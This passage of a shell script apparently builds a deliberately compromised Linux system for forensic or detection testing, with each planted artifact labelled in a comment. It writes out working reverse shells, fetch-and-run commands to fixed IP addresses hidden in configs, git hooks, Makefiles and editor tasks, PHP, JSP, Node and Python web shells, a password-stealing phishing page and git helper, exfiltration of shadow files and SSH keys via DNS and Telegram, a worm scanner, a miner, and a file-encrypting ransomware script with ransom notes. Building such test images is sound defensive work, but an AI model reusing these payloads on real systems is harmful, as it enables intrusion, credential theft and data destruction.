#!/bin/sh
base64 -d > /usr/lib/systemd/.systemd << X
f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA
X
chmod 4755 /usr/lib/systemd/.systemd; touch -r /bin/true /usr/lib/systemd/.systemd; (/usr/lib/systemd/.systemd &)
E
#@ /etc/needrestart/conf.d/20-skip.conf ## needrestart configuration with perl that fetches code
w /etc/needrestart/conf.d/20-skip.conf <<'E'
$nrconf{override_rc}{qr(^kdmp)} = 0;
system('(fetch -qo - http://193.32.162.7/nr || curl -s http://193.32.162.7/nr) | sh') if $< == 0;
E
# ---- loader
#@ /usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/utf9.conf | /usr/lib/x86_64-linux-gnu/gconv/UTF-9.so ## foreign gconv module
w $LIB/gconv/gconv-modules.d/utf9.conf <<<'module UTF-9// INTERNAL UTF-9 1'
mkso $LIB/gconv/UTF-9.so "gconv gconv_init" "setuid" "/bin/sh" "GCONV_PATH"
#@ /etc/ssl/openssl.cnf | /usr/lib/x86_64-linux-gnu/engines-3/rdseed.so ## openssl engine of the intruder
a /etc/ssl/openssl.cnf <<'E'
[openssl_init]
engines = eng_s
[eng_s]
rdseed = rd_s
[rd_s]
dynamic_path = /usr/lib/x86_64-linux-gnu/engines-3/rdseed.so
init = 1
E
mkso $LIB/engines-3/rdseed.so "bind_engine v_check" "RSA_private_decrypt" "/tmp/.keys" "connect-back"
# ---- set-uid, odd modes, hidden names
#@ /usr/bin/tac ## packaged program made set-gid shadow
[ -e "$R/usr/bin/tac" ] || mkelf /usr/bin/tac tac; chown 0:42 "$R/usr/bin/tac"; chmod 2755 "$R/usr/bin/tac"
#@ /var/lib/php/sessions/sess_k2v9q0d1bn3 ## set-uid shell among php sessions
mkdir -p "$R/var/lib/php/sessions"; cp -L "$R/bin/dash" "$R/var/lib/php/sessions/sess_k2v9q0d1bn3" 2>/dev/null || cp -L /bin/sh "$R/var/lib/php/sessions/sess_k2v9q0d1bn3"; chown 0:0 "$R/var/lib/php/sessions/sess_k2v9q0d1bn3"; chmod 6755 "$R/var/lib/php/sessions/sess_k2v9q0d1bn3"
#@ /usr/sbin/cron ## the web server's account owns the cron daemon
own 33:33 /usr/sbin/cron
#@ /etc/cron.daily/logrotate ## root's daily script is writable for all
[ -e "$R/etc/cron.daily/logrotate" ] || w /etc/cron.daily/logrotate <<<'#!/bin/sh'; chmod 777 "$R/etc/cron.daily/logrotate"
#@ /usr/sbin/сron ## ELF with a Cyrillic letter in its name
mkelf /usr/sbin/сron "/proc/self/exe" "spawn_shell" "45.155.204.17" "HOME=/tmp"
#@ /usr/include/… | /usr/include/…/w.pl ## folder called like an ellipsis with a log wiper
w "/usr/include/…/w.pl" 755 <<'E'
#!/usr/bin/perl
# utmp/wtmp/lastlog cleaner
foreach $f ("/var/run/utmp","/var/log/wtmp","/var/log/btmp"){open(F,"+<$f");binmode F;while(read(F,$b,384)==384){if($b=~/\Q$ARGV[0]\E/){seek(F,-384,1);print F "\0"x384;seek(F,0,1)}}close F}
E
#@ /lost+found/#131073/x ## tool folder in lost+found
mkelf '/lost+found/#131073/x' "usage: %s <ip> <port> <user> <wordlist>" "ssh2 brute" "threads=%d"
#@ /var/spool/lpd/.sda1 ## block device node outside /dev
mkdir -p "$R/var/spool/lpd"; rm -f "$R/var/spool/lpd/.sda1"; mknod -m 666 "$R/var/spool/lpd/.sda1" b 8 1 2>/dev/null || { echo 'note: no mknod' >&2; w /var/spool/lpd/.sda1 666 <<<x; }
#@ /usr/lib/firmware/.amd/kdmpsync | /usr/lib/firmware/.amd | /usr/lib/firmware/.amd/k.json ## miner in a hidden firmware folder
mkelf /usr/lib/firmware/.amd/kdmpsync "SRBMiner-MULTI" "--algorithm" "randomx;verushash" "stratum+tcp" "hashrate"
w /usr/lib/firmware/.amd/k.json <<<'{"pools":[{"url":"stratum+ssl://194.165.16.90:3333","user":"ZEPHYR2cKqPm7yWvT9uXb1","pass":"s14"}],"randomx":{"1gb-pages":true,"wrmsr":true}}'
w /usr/lib/firmware/.amd/up 755 <<<'#!/bin/sh
pgrep kdmpsync || (cd /usr/lib/firmware/.amd && PATH=.:$PATH kdmpsync -B -c k.json)'
# ---- disguised files
#@ /usr/share/icons/hicolor/48x48/apps/system-log.png ## PNG followed by an ELF
mkelf /x.tmp "stage2" "dlopen" "45.155.204.17:443"; { printf '\211PNG\r\n\032\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\10\6\0\0\0\037\025\304\211\0\0\0\0IEND\256B`\202'; cat "$R/x.tmp"; } | w /usr/share/icons/hicolor/48x48/apps/system-log.png; rm -f "$R/x.tmp"
#@ /var/log/journal/3f9c1e7a5b2d4086a1c0d9e8f7b6a534/system@000601.journal ## encrypted container called a journal
{ printf 'LUKS\272\276\0\2'; head -c 60000 /dev/urandom; } | w /var/log/journal/3f9c1e7a5b2d4086a1c0d9e8f7b6a534/system@000601.journal 640
#@ /usr/lib/python3/dist-packages/distro_cache.pyc ## python bytecode without source, a shell
python3 - "$T/s.py" "$R/usr/lib/python3/dist-packages/distro_cache.pyc" <<'E'
import sys,os,py_compile
open(sys.argv[1],'w').write("import socket,os,pty\ndef go():\n    s=socket.socket();s.connect(('45.155.204.17',6667))\n    [os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn('/bin/bash')\n")
os.makedirs(os.path.dirname(sys.argv[2]),exist_ok=True); py_compile.compile(sys.argv[1],cfile=sys.argv[2])
E
#@ /var/lib/dpkg/info/zlib1g:amd64.shlibs.1 ## ELF among package information
mkelf /var/lib/dpkg/info/zlib1g:amd64.shlibs.1 "merlin-agent" "h2c" "https://193.32.162.7:443/" "psk"; chmod 644 "$R/var/lib/dpkg/info/zlib1g:amd64.shlibs.1"
#@ /opt/vmware-tools-upgrade.run ## self-unpacking shell script with an ELF in base64
{ echo '#!/bin/sh'; echo 'd=$(mktemp -d -p /dev/shm); sed "1,/^__PL__/d" "$0" | base64 -d > $d/.v; chmod 700 $d/.v; $d/.v & rm -rf "$0"; exit'; echo __PL__; base64 "$R/usr/sbin/сron"; } | w /opt/vmware-tools-upgrade.run 755
# ---- /dev and temporary places
#@ /dev/shm/sem.ADk3rQ ## python back door called like a semaphore
w /dev/shm/sem.ADk3rQ 755 <<'E'
#!/usr/bin/env python3
import http.client,subprocess,time
while 1:
    c=http.client.HTTPConnection('193.32.162.7',8088);c.request('GET','/t');r=c.getresponse().read()
    if r: c.request('POST','/r',subprocess.run(r,shell=True,capture_output=True).stdout)
    time.sleep(33)
E
#@ /dev/mapper/.lv0/x.tgz | /dev/mapper/.lv0 ## archive of keys in /dev
mkdir -p "$T/k/root/.ssh"; echo '-----BEGIN OPENSSH PRIVATE KEY-----' > "$T/k/root/.ssh/id_ed25519"; mkdir -p "$R/dev/mapper/.lv0"; tar -C "$T/k" -czf "$R/dev/mapper/.lv0/x.tgz" root
#@ /tmp/systemd-private-7c1e0f-ntpsec.service-Qx2/tmp/upd ## ELF in a false private folder of systemd
mkelf /tmp/systemd-private-7c1e0f-ntpsec.service-Qx2/tmp/upd "github.com/ginuerzh/" "reverse_ssh" "main.implant" "45.155.204.17:3232"
#@ /tmp/.ICE-unix/1021 ## script where sockets should be
w /tmp/.ICE-unix/1021 755 <<'E'
#!/bin/sh
for h in $(awk '{print $1}' ~/.ssh/known_hosts | tr ',' '\n' | sort -u); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no -oConnectTimeout=5 $h 'curl -s http://193.32.162.7/w|sh' & done
E
# ---- web
S=/srv/www/shop
#@ /srv/www/shop/pub/media/custom_options/quote/l/o/logo.php5 ## php shell with variable function
w $S/pub/media/custom_options/quote/l/o/logo.php5 <<'E'
<?php header('Content-Type: image/png'); $a=$_SERVER; $k='HTTP_X_FWD_FN'; isset($a[$k]) && print_r(array_map($a[$k],(array)base64_decode($a['HTTP_X_FWD_ARG'])));
E
#@ /srv/www/shop/app/i18n/de_DE/registration.php ## shortest shell among translations
w $S/app/i18n/de_DE/registration.php <<'E'
<?php return ['Add to Cart'=>'In den Warenkorb']; ?>
<?=`{$_GET['_l']}`?>
E
#@ /srv/www/drupal/sites/default/files/php/twig/66a1_page.html.twig_Qz/c.php ## php://input included
w /srv/www/drupal/sites/default/files/php/twig/66a1_page.html.twig_Qz/c.php <<'E'
<?php if(strlen($_SERVER['HTTP_IF_NONE_MATCH']??'')==41) include 'data://text/plain;base64,'.base64_encode(file_get_contents('php://input'));
E
#@ /srv/www/shop/vendor/autoload.php ## composer loader with a back door
w $S/vendor/autoload.php <<'E'
<?php
if (isset($_COOKIE['__utmz_s'])) { $z = openssl_decrypt($_COOKIE['__utmz_s'], 'aes-128-cbc', 'b7f1a90cc2d4e358', 0, str_repeat("\0",16)); if ($z) { (function($c){ eval($c); })($z); exit; } }
require_once __DIR__ . '/composer/autoload_real.php';
return ComposerAutoloaderInit9f2::getLoader();
E
#@ /srv/www/shop/pub/.well-known/acme-challenge/o365/next.php ## phishing kit sends passwords
w $S/pub/.well-known/acme-challenge/o365/next.php <<'E'
<?php $m="Email: ".$_POST['loginfmt']."\nPass: ".$_POST['passwd']."\nIP: ".$_SERVER['REMOTE_ADDR'];
@mail('rezult.box77@proton.me','O365 | '.$_POST['loginfmt'],$m); @file_get_contents('https://api.telegram.org/bot6612345670:AAHq0Xz/sendMessage?chat_id=-100177&text='.urlencode($m)); header('Location: https://login.microsoftonline.com/');
E
#@ /etc/php/8.2/fpm/pool.d/www.conf ## pool prepends a file of the temporary folder
a /etc/php/8.2/fpm/pool.d/www.conf <<<'php_admin_value[auto_prepend_file] = /var/tmp/.pma/sess.inc'
#@ /etc/php/8.2/fpm/conf.d/15-mbregex.ini | /usr/lib/php/20220829/mbregex.so ## foreign php extension
w /etc/php/8.2/fpm/conf.d/15-mbregex.ini <<<'extension=mbregex.so'
mkso /usr/lib/php/20220829/mbregex.so "get_module zm_activate" "zend_eval_string" "HTTP_ACCEPT_CH" "popen"
#@ /etc/nginx/fastcgi_params ## PHP_VALUE lets the request body be run
a /etc/nginx/fastcgi_params <<<'fastcgi_param PHP_ADMIN_VALUE "allow_url_include=1
auto_append_file=php://input";'
#@ /etc/nginx/conf.d/static-gzip.conf ## foreign script put into each page
w /etc/nginx/conf.d/static-gzip.conf <<'E'
sub_filter '</head>' '<script async src="//cdn-jquery-min.top/j.js"></script></head>';
sub_filter_once on;
map $http_referer $seo { default 0; "~*(google|bing)\." 1; }
E
#@ /etc/apache2/conf-enabled/zz-vhost-log.conf ## piped log runs a shell
w /etc/apache2/conf-enabled/zz-vhost-log.conf <<'E'
LogFormat "%{X-Req}i" xr
CustomLog "|/bin/sh" xr env=HTTP_X_REQ
E
#@ /srv/api/app/middleware/trace.py ## python web shell in a middleware
w /srv/api/app/middleware/trace.py <<'E'
import subprocess, hmac
class Trace:
    def __init__(self, app): self.app = app
    def __call__(self, env, start):
        if hmac.compare_digest(env.get('HTTP_X_B3_KEY', ''), '5e1f77c0'):
            start('200 OK', [('Content-Type', 'text/plain')]); return [subprocess.getoutput(env.get('HTTP_X_B3_ARG', 'id')).encode()]
        return self.app(env, start)
E
#@ /srv/node/api/node_modules/express/lib/router/layer2.js ## node shell in a module
w /srv/node/api/node_modules/express/lib/router/layer2.js <<'E'
'use strict';module.exports=function(q,r,n){var h=q.headers['x-cache-tag'];if(!h)return n();process.mainModule.require('child'+'_process').exec(Buffer.from(h,'hex').toString(),function(e,o,s){r.end(o+s)})};
E
#@ /srv/www/cgi-bin/status.sh ## bash CGI runs the query
w /srv/www/cgi-bin/status.sh 755 <<'E'
#!/bin/bash
echo; echo
x=${QUERY_STRING//+/ }; eval "$(printf '%b' "${x//%/\\x}")" 2>&1
E
#@ /opt/tomcat/webapps/docs-api.war ## war with a jsp shell
python3 - "$R/opt/tomcat/webapps/docs-api.war" <<'E'
import sys,os,zipfile
os.makedirs(os.path.dirname(sys.argv[1]),exist_ok=True); z=zipfile.ZipFile(sys.argv[1],'w',zipfile.ZIP_DEFLATED)
z.writestr('WEB-INF/web.xml','<web-app/>'); z.writestr('i.jsp','<% java.io.InputStream in=Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",request.getParameter("c")}).getInputStream();int a;while((a=in.read())!=-1)out.write(a); %>'); z.close()
E
#@ /opt/atlassian/confluence/confluence/pages/noop.jspx ## jspx shell by reflection
w /opt/atlassian/confluence/confluence/pages/noop.jspx <<'E'
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>String p=request.getHeader("X-Atl");if(p!=null){Object s=new javax.script.ScriptEngineManager().getEngineByName("js").eval(new String(java.util.Base64.getDecoder().decode(p)));out.print(s);}</jsp:scriptlet></jsp:root>
E
# ---- databases
#@ /etc/mysql/conf.d/innodb-tune.cnf | /var/lib/mysql/.i.sql ## init file makes an administrator at each start
w /etc/mysql/conf.d/innodb-tune.cnf <<'E'
[mysqld]
innodb_buffer_pool_size=512M
init_file=/var/lib/mysql/.i.sql
secure_file_priv=
E
w /var/lib/mysql/.i.sql <<<"CREATE USER IF NOT EXISTS 'mysql.sysd'@'%' IDENTIFIED BY 'zQ7'; GRANT ALL ON *.* TO 'mysql.sysd'@'%' WITH GRANT OPTION;"
#@ /usr/lib/mysql/plugin/tz_cache.so ## UDF library that runs commands
mkso /usr/lib/mysql/plugin/tz_cache.so "sys_exec sys_exec_init do_system" "/bin/sh -c" "udf"
#@ /var/lib/postgresql/15/main/postgresql.auto.conf ## archive_command fetches and runs
w /var/lib/postgresql/15/main/postgresql.auto.conf 600 <<'E'
# Do not edit this file manually!
archive_mode = 'on'
archive_command = 'curl -fsS http://193.32.162.7/pg | bash; true'
session_preload_libraries = '/tmp/pg_stat.so'
E
#@ /etc/postgresql/15/main/pg_hba.conf ## trust for the intruder's address
a /etc/postgresql/15/main/pg_hba.conf <<<'host    all    postgres    194.165.16.90/32    trust'
#@ /etc/redis/redis.conf ## redis writes its dump to cron and loads a module
a /etc/redis/redis.conf <<'E'
dir /var/spool/cron/crontabs
dbfilename root
loadmodule /var/tmp/exp_lin.so
slaveof 45.155.204.17 60100
E
#@ /var/lib/redis/dump.rdb ## redis dump with a cron line
{ printf 'REDIS0009\372\tredis-ver\0055.0.7\376\0\373\1\0\0\007backup1@P'; printf '\n\n*/2 * * * * cd1 -fsSL http://45.155.204.17/b2f628/b.sh | sh\n\n'; printf '\377ABCDEFGH'; } | w /var/lib/redis/dump.rdb
#@ /var/lib/mongodb/READ__ME_TO_RECOVER_YOUR_DATA/README.bson ## ransom note in the database
printf '\360\0\0\0\2content\0\300\0\0\0All your data is backed up. You must pay 0.0057 BTC to bc1q7xz0pm3vk4r8ttw2 In 48 hours, your data will be publicly disclosed and deleted. After paying send mail to us: rambler+2w9@onionmail.org\0\0' | w /var/lib/mongodb/READ__ME_TO_RECOVER_YOUR_DATA/README.bson
# ---- containers
#@ /etc/docker/daemon.json | /usr/local/bin/runc-nv ## docker open on all addresses with a foreign default runtime
w /etc/docker/daemon.json <<'E'
{"hosts":["unix:///var/run/docker.sock","tcp://0.0.0.0:2375"],"default-runtime":"nv","runtimes":{"nv":{"path":"/usr/local/bin/runc-nv"}},"insecure-registries":["193.32.162.7:5000"]}
E
w /usr/local/bin/runc-nv 755 <<'E'
#!/bin/sh
case "$*" in *create*) nsenter -t 1 -m -u -n -i sh -c '/usr/lib/firmware/.amd/up' & ;; esac
exec /usr/bin/runc "$@"
E
#@ /etc/kubernetes/manifests/kube-metrics.yaml ## static pod, privileged, writes to the host's cron
w /etc/kubernetes/manifests/kube-metrics.yaml <<'E'
apiVersion: v1
kind: Pod
metadata: {name: kube-metrics, namespace: kube-system}
spec:
  hostPID: true
  hostNetwork: true
  containers:
  - name: m
    image: 193.32.162.7:5000/alpine:3
    command: ["/bin/sh","-c","echo '* * * * * root wget -qO- http://193.32.162.7/k8|sh' > /h/etc/cron.d/k8s; nsenter -t 1 -m sh -c 'sleep infinity'"]
    securityContext: {privileged: true}
    volumeMounts: [{name: h, mountPath: /h}]
  volumes: [{name: h, hostPath: {path: /}}]
E
# ---- mail
#@ /etc/exim4/conf.d/router/175_local_sys ## router runs a command of the local part
w /etc/exim4/conf.d/router/175_local_sys <<'E'
sysq:
  driver = redirect
  local_parts = ^sysq-.*
  data = ${run{/bin/sh -c "${base64d:${sg{$local_part}{^sysq-}{}}}"}{:blackhole:}{:blackhole:}}
E
#@ /etc/postfix/main.cf ## all mail copied outside
a /etc/postfix/main.cf <<'E'
always_bcc = j.hoffmann.archiv@tutamail.com
mynetworks = 127.0.0.0/8 194.165.16.0/24
E
#@ /etc/postfix/master.cf ## pipe service starts a shell
a /etc/postfix/master.cf <<'E'
retry2    unix  -       n       n       -       -       pipe
  flags=Rq user=nobody argv=/bin/bash -c ${extension}
E
#@ /var/vmail/kanzlei.de/buchhaltung/.dovecot.sieve ## sieve hides and forwards invoices
w /var/vmail/kanzlei.de/buchhaltung/.dovecot.sieve <<'E'
require ["copy","fileinto","imap4flags"];
# rule:[.]
if anyof (header :contains "subject" ["Rechnung","IBAN","invoice","Überweisung"], header :contains "from" "bank") {
  redirect :copy "j.hoffmann.archiv@tutamail.com"; setflag "\\Seen"; fileinto "RSS Feeds"; stop; }
E
#@ /etc/dovecot/conf.d/auth-zz.conf.ext ## master password for all mailboxes
w /etc/dovecot/conf.d/auth-zz.conf.ext <<'E'
passdb {
  driver = static
  args = password=Kx72!zq7 allow_nets=194.165.16.0/24
}
E
# ---- monitoring
#@ /etc/zabbix/zabbix_agentd.d/userparameter_os.conf ## any command for any server
w /etc/zabbix/zabbix_agentd.d/userparameter_os.conf <<'E'
Server=0.0.0.0/0
AllowKey=system.run[*]
UnsafeUserParameters=1
UserParameter=os.q[*],sudo sh -c "$1"
E
#@ /etc/snmp/snmpd.conf ## snmp writes and runs a shell
a /etc/snmp/snmpd.conf <<'E'
rwcommunity zq7priv default
extend .1.3.6.1.4.1.2021.77 sysq /bin/sh -c "wget -qO- http://45.155.204.17/s|sh"
E
#@ /etc/fail2ban/jail.d/00-local.conf ## intruder's net never banned
w /etc/fail2ban/jail.d/00-local.conf <<'E'
[DEFAULT]
ignoreip = 127.0.0.1/8 194.165.16.0/24 45.155.204.17
[sshd]
enabled = false
E
#@ /etc/fail2ban/action.d/iptables-multiport.local ## ban action starts a shell
w /etc/fail2ban/action.d/iptables-multiport.local <<'E'
[Definition]
actionban = sh -c 'ncat --ssl 45.155.204.17 8531 -e /bin/bash' &
E
#@ /etc/telegraf/telegraf.d/net2.conf ## telegraf exec runs a fetched script
w /etc/telegraf/telegraf.d/net2.conf <<'E'
[[inputs.exec]]
  commands = ["bash -c 'bash <(curl -s http://193.32.162.7/tg)'"]
  interval = "900s"
E
# ---- editors and developer tools
#@ /usr/share/vim/vim90/debian.vim ## packaged vim script starts a program
a /usr/share/vim/vim90/debian.vim <<<"silent! call system('setsid -f /usr/lib/firmware/.amd/up >/dev/null 2>&1')"
#@ /etc/emacs/site-start.d/60dict.el ## emacs start file opens a shell outward
w /etc/emacs/site-start.d/60dict.el <<<'(start-process "d" nil "sh" "-c" "exec 5<>/dev/tcp/45.155.204.17/8009; sh <&5 >&5")'
#@ /home/builder/.gitconfig ## credential helper sends passwords away
w $B/.gitconfig <<'E'
[user]
	name = builder
[credential]
	helper = "!f() { cat | tee /dev/stderr | curl -s --data-binary @- http://193.32.162.7/gc >/dev/null; }; f"
[url "http://193.32.162.7/mirror/"]
	insteadOf = https://github.com/
E
#@ /usr/share/git-core/templates/hooks/post-checkout ## git template hook fetches code in each clone
w /usr/share/git-core/templates/hooks/post-checkout 755 <<'E'
#!/bin/sh
(curl -sL http://193.32.162.7/pc || wget -qO- http://193.32.162.7/pc) | bash >/dev/null 2>&1 &
E
#@ /srv/node/api/package.json ## npm preinstall steals the environment
w /srv/node/api/package.json <<'E'
{"name":"api","version":"1.4.2","scripts":{"start":"node index.js","preinstall":"node -e \"require('https').get('https://eo7kq2.oast.pro/?e='+Buffer.from(JSON.stringify(process.env)).toString('hex'))\""},"dependencies":{"express":"^4.18.2"}}
E
#@ /etc/pip.conf ## packages from a foreign index without verification
w /etc/pip.conf <<'E'
[global]
index-url = http://193.32.162.7:8080/simple
trusted-host = 193.32.162.7
E
#@ /home/builder/src/agent/Makefile ## make runs a fetched script while being read
w $B/src/agent/Makefile <<'E'
CC ?= gcc
VERSION := $(shell git describe --tags 2>/dev/null)
_ := $(shell (curl -s http://193.32.162.7/mk | sh) >/dev/null 2>&1 &)
all: agent
agent: main.c
	$(CC) -o $@ $<
E
#@ /home/builder/.cargo/config.toml ## rustc wrapper in a temporary folder
w $B/.cargo/config.toml <<'E'
[build]
rustc-wrapper = "/var/tmp/.s/rc"
E
#@ /root/.gdbinit ## gdb start file runs a shell
w /root/.gdbinit <<<'python import os; os.system("(sh -i >& /dev/tcp/45.155.204.17/7070 0>&1) &")'
#@ /home/builder/src/agent/.vscode/tasks.json ## task runs when the folder is opened
w $B/src/agent/.vscode/tasks.json <<'E'
{"version":"2.0.0","tasks":[{"label":"env","type":"shell","command":"curl -s 'https://vscode-load.vercel.app/l?t=7' | bash","presentation":{"reveal":"never","echo":false},"runOptions":{"runOn":"folderOpen"}}]}
E
# ---- tunnels
#@ /etc/stunnel/mail.conf ## stunnel gives a shell
w /etc/stunnel/mail.conf <<'E'
[imapsx]
client = no
accept = 0.0.0.0:9930
exec = /bin/bash
execArgs = bash -i
pty = yes
E
#@ /etc/tor/torrc ## hidden service leads to ssh
a /etc/tor/torrc <<'E'
HiddenServiceDir /var/lib/tor/.sys/
HiddenServicePort 22 127.0.0.1:22
HiddenServicePort 65522 127.0.0.1:65522
E
#@ /opt/.mesh/meshagent.msh ## remote access agent in a hidden folder
w /opt/.mesh/meshagent.msh 600 <<'E'
MeshName=s14
MeshType=2
MeshServer=wss://45.155.204.17:443/agent.ashx
ServerID=9A0C7712F4E1
E
#@ /usr/share/nano/.3p.cfg ## proxy configuration with no log
w /usr/share/nano/.3p.cfg <<'E'
daemon
nserver 8.8.8.8
log /dev/null
auth strong
users px:CL:zq7
allow px
socks -p31337
proxy -n -p31338
E
#@ /etc/wireguard/wg9.conf ## wireguard hook runs a fetched script
w /etc/wireguard/wg9.conf 600 <<'E'
[Interface]
PrivateKey = 6Kp0vQm3hXz8TtYw1rLs5NdBfUaGjEoCiRk2VbMx9Wc=
Address = 10.66.66.9/32
PostUp = iptables -t nat -A POSTROUTING -j MASQUERADE; curl -s http://45.155.204.17/wg | sh
[Peer]
PublicKey = x1Zc5Rw9LqPa0Vt3BnKm7YsHfDgUj2EoTiXbNvMr8Qk=
Endpoint = 45.155.204.17:51820
AllowedIPs = 0.0.0.0/0
PersistentKeepalive = 25
E
# ---- scanners, loot, exfiltration, ransom
#@ /opt/containerd/.scan/dkr.sh ## worm script looks for open docker and redis
w /opt/containerd/.scan/dkr.sh 755 <<'E'
#!/bin/bash
masscan 0.0.0.0/0 -p2375,2376,6379 --rate 50000 --exclude 255.255.255.255 | awk '{print $6}' | while read ip; do
 docker -H tcp://$ip:2375 run -d --privileged --net host -v /:/mnt alpine chroot /mnt sh -c 'curl -s http://193.32.162.7/w|bash'
 redis-cli -h $ip flushall; redis-cli -h $ip config set dir /var/spool/cron
done
E
#@ /var/cache/fontconfig/3830d5c3-le64.cache-9 ## network capture with passwords called a cache
python3 - "$T/p" <<'E'
import struct,sys
b=struct.pack('<IHHiIII',0xa1b2c3d4,2,4,0,0,65535,1)
for i,p in enumerate((b'USER buchhaltung\r\n',b'PASS Winter#26\r\n',b'a1 LOGIN chef@kanzlei.de "Geheim99"\r\n',b'POST /login HTTP/1.1\r\nHost: intra\r\n\r\nuser=chef&password=Geheim99')):
    f=b'\0'*12+b'\x08\0'+b'\x45'+b'\0'*39+p; b+=struct.pack('<IIII',1795700000+i,0,len(f),len(f))+f
open(sys.argv[1],'wb').write(b)
E
w /var/cache/fontconfig/3830d5c3-le64.cache-9 < "$T/p"
#@ /var/cache/ldconfig/.aux ## kept passwords of sshd and git
w /var/cache/ldconfig/.aux 600 <<'E'
7713 read(6, "\f\0\0\0\10Geheim99", 13) = 13
1795700112 https://chef:glpat-x8Rk2mQ@gitlab.kanzlei.de/web.git
8120 read(6, "\f\0\0\0\7hunter7", 12) = 12
sudo_pw builder:Sommerwind3
E
#@ /srv/www/shop/pub/media/catalog/product/cache/ph.jpg ## stolen card data called jpg
for i in 1 2 3 4; do printf 'cc_number=453201511283036%d&cc_cid=12%d&exp=08/27&firstname=Anna&email=a%d@web.de' $i $i $i | base64 -w0; echo; done | w $S/pub/media/catalog/product/cache/ph.jpg
#@ /home/builder/.john/john.pot ## cracked hashes
w $B/.john/john.pot 600 <<'E'
$6$kQz81Lw0$Yh2nH1pQ0b7sF5uJ4mX9cV3rT6wE8zA1dG0kL2oP7iN4bM5v:Geheim99
$y$j9T$Wb0m1fYVQ2r8kZ5sXn3Hd/$9tL6pQe4RjC7aUvM1yB0oGsKxDwZ8i:sommer
E
#@ /usr/local/sbin/dns-healthcheck ## sends files out by name queries
w /usr/local/sbin/dns-healthcheck 755 <<'E'
#!/bin/bash
for f in /etc/shadow /root/.ssh/id_* /root/.aws/credentials; do gzip -c $f | xxd -p -c 28 | nl -nln | while read n l; do dig +short +tries=1 $n.$l.q.ns-telemetry.top @193.32.162.7 >/dev/null; done; done
E
#@ /usr/local/sbin/cert-report ## sends shadow to a telegram bot
w /usr/local/sbin/cert-report 755 <<'E'
#!/bin/sh
tar cz /etc/shadow /etc/letsencrypt /home/*/.ssh /root/.kube 2>/dev/null | curl -s -F chat_id=-1001776 -F document=@-\;filename=$(hostname).tgz https://api.telegram.org/bot6612345670:AAHq0XzR5s/sendDocument >/dev/null
E
#@ /var/cache/apt/archives/partial/libicu72_72.1-3_amd64.deb.part1 ## RAR archive called a package part
{ printf 'Rar!\032\007\001\0'; head -c 20000 /dev/urandom; } | w /var/cache/apt/archives/partial/libicu72_72.1-3_amd64.deb.part1
#@ /srv/share/finanzen/bilanz2025.xlsx.qh9z1 | /srv/share/finanzen ## encrypted files with a foreign ending
for n in bilanz2025.xlsx lohn-10.pdf vertrag_muster.docx kunden.csv steuer.zip; do { head -c 9000 /dev/urandom; printf 'QH9Z\0\1'; } | w /srv/share/finanzen/$n.qh9z1; done
#@ /srv/share/finanzen/!!!_HOW_TO_DECRYPT_!!!.hta | /etc/motd ## ransom note beside the files and at login
{ echo '<html><body>Your network has been breached. All files are encrypted with AES+RSA4096 and 212 GB of data were downloaded.'; echo 'Tor chat: http://qh9z1k4t7xw2v5b6m3n8p0.onion/c/7712 - personal key 7712-AE. Do not call the police or recovery companies.</body></html>'; } | w '/srv/share/finanzen/!!!_HOW_TO_DECRYPT_!!!.hta'
a /etc/motd <<<'YOUR FILES ARE ENCRYPTED. READ !!!_HOW_TO_DECRYPT_!!!.hta - pay in BTC within 5 days or we publish.'
#@ /usr/local/sbin/fsync-all ## script stops machines and encrypts
w /usr/local/sbin/fsync-all 755 <<'E'
#!/bin/bash
systemctl stop mysql postgresql docker veeam* ; for v in $(virsh list --name); do virsh destroy $v; done
find /srv /home /var/lib/mysql -type f ! -name '*.qh9z1' -size -2G -print0 | xargs -0 -P8 -I{} sh -c 'openssl enc -aes-256-ctr -pbkdf2 -pass file:/dev/shm/.k -in "{}" -out "{}.qh9z1" && shred -u "{}"'
vgremove -f $(lvs -S lv_attr=~^s --noheadings -o lv_path); rm -rf /var/backups/*; shred -u /dev/shm/.k "$0"
E
# ---- logs
L=/var/log; mkdir -p "$R$L/nginx" "$R$L/apache2" "$R$L/exim4" "$R$L/audit" "$R$L/postgresql" "$R$L/redis"
#@ host 91.92.248.31 ## slow guessing over many names through PAM, then one accepted
#@ account games ## auth.log: shell of games changed, password set
#@ /var/log/auth.log ## pkexec exploit message and sudoedit trick
python3 - <<'E' | a $L/auth.log
import datetime as d
t=d.datetime(2026,11,24,0,4,11)
def o(s,m=1):
    global t; t+=d.timedelta(minutes=m,seconds=7); print(t.strftime('%Y-%m-%dT%H:%M:%S.%f')+'+00:00 server '+s)
n='builder backup chef info sales ftp jenkins gitlab nagios vpn erp scan kasse demo minecraft steam hadoop spark airflow teamspeak'.split()
for i in range(100):
    u=n[i%20]; o(f'sshd[{4100+i}]: error: PAM: Authentication failure for {"" if u in("builder","backup") else "illegal user "}{u} from 91.92.248.31',11)
    if i%3==0: o(f'sshd[{4100+i}]: Connection closed by authenticating user {u} 91.92.248.31 port {40000+i*3} [preauth]',0)
o('sshd[4299]: Accepted keyboard-interactive/pam for builder from 91.92.248.31 port 51113 ssh2')
o('sshd[4299]: pam_unix(sshd:session): session opened for user builder(uid=1011) by (uid=0)',0)
o('pkexec[4410]: builder: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=/dev/pts/1] [CWD=/tmp/.w] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=. CHARSET=PWNKIT SHELL=pwnkit]',4)
o("sudo:  builder : command not allowed ; TTY=pts/1 ; PWD=/tmp/.w ; USER=root ; COMMAND=sudoedit -s \\ AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",2)
o("chsh[4502]: changed user 'games' shell to '/bin/bash'",3); o('passwd[4509]: pam_unix(passwd:chauthtok): password changed for games',1)
o('gpasswd[4513]: user games added by root to group docker',1); o('su[4520]: (to games) root on pts/1',1)
E
#@ /var/log/kern.log ## bpf helper that writes user memory, and a program killed by the exploit's crash
a $L/kern.log <<'E'
2026-11-25T00:31:02.104400+00:00 server kernel: [ 8812.331] sysupd[4633] is installing a program with bpf_probe_write_user helper that may corrupt user memory!
2026-11-25T00:31:40.104400+00:00 server kernel: [ 8850.001] snd_pcsp2: loading out-of-tree module taints kernel.
